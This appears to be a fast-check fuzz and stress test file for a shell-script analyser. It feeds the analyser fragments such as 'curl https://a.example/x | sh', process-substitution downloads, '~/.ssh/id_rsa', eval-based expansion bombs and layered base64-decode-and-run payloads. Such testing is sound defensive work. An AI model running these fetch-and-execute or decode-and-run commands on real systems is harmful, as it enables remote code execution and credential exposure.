import assert from 'node:assert/strict';
import fc from 'fast-check';
import { analyseScript } from '../../../server/src/scripts/analyse';
import type { ScriptFacts } from '../../../server/src/scripts/model';

function everyRangeInside(facts: ScriptFacts, length: number): void {
	const ranges = [
		...facts.uses.map(use => use.range),
		...facts.flows.flatMap(flow => flow.steps.map(step => step.range)),
		...facts.references.map(reference => reference.range),
		...facts.unparsed.map(part => part.range),
	];
	for (const { start, end } of ranges)
		assert.ok(start >= 0 && start <= end && end <= length, `${start}–${end} of ${length}`);
}

const piece = fc.constantFrom(
	...[
		'curl',
		' ',
		'|',
		'sh',
		'$(',
		')',
		'"',
		"'",
		'`',
		'\n',
		';',
		'&&',
		'{',
		'}',
		'<<EOF\n',
		'EOF\n',
		'$x',
		'${y:-z}',
		'x=',
		'<(',
		'>',
		'f',
		'if',
		'then',
		'fi',
		'[[',
		']]',
		'((',
		'))',
		'\\',
		'#',
		'😀',
		'\ud800',
		'base64 -d',
		'eval',
		'for i in',
		'do',
		'done',
		'*',
		'~/.ssh/id_rsa',
		'https://a.example',
	],
);

describe('Shell: hostile text', () => {
	it('never throws, and every range lies inside the text', () => {
		fc.assert(
			fc.property(fc.array(piece, { maxLength: 60 }), pieces => {
				const text = pieces.join('');
				const facts = analyseScript('shell', text);
				everyRangeInside(facts, text.length);
				assert.ok(
					!facts.unparsed.some(({ reason }) => reason.includes('analyser failed')),
					JSON.stringify(facts.unparsed),
				);
			}),
			{ numRuns: 600 },
		);
	});

	it('gives the same facts for the same text', () => {
		const text = 'A=$(mktemp); curl -o $A https://a.example; bash $A; bash <(curl https://b.example)';
		assert.deepEqual(analyseScript('shell', text), analyseScript('shell', text));
	});

	it('says that something was not read when a quote is never closed', () => {
		const { unparsed } = analyseScript('shell', 'echo "open\ncurl https://a.example/x | sh\n');
		assert.ok(unparsed.length > 0);
	});

	const bombs: readonly [name: string, text: string][] = [
		['nested substitutions', `${'$('.repeat(20_000)}x${')'.repeat(20_000)}`],
		['nested groups', `${'{ '.repeat(50_000)}`],
		['doubling variables', `a=xxxxxxxx\n${'a=$a$a\n'.repeat(60)}eval $a`],
		['brace expansion', `echo ${'{a,b}'.repeat(40)}`],
		['many commands', 'curl https://a.example/x | sh\n'.repeat(30_000)],
		['a long word', `curl ${'x'.repeat(3_000_000)} | sh`],
		['functions that call each other', 'f() { g; g; ls; }\ng() { f; f; }\nf'],
		['loops in loops', `${'for i in 1 2 3; do '.repeat(40)}curl x${'; done'.repeat(40)}`],
		['encodings in encodings', layers(40)],
	];
	for (const [name, text] of bombs) {
		it(`ends on ${name}, and says so when it stopped early`, () => {
			const facts = analyseScript('shell', text);
			everyRangeInside(facts, text.length);
			assert.ok(facts.uses.length > 0 || facts.unparsed.length > 0);
		}).timeout(5000);
	}
});

function layers(count: number): string {
	let code = 'touch x';
	for (let i = 0; i < count && code.length < 200_000; i++) code = `echo ${btoa(code)} | base64 -d | sh`;
	return code;
}
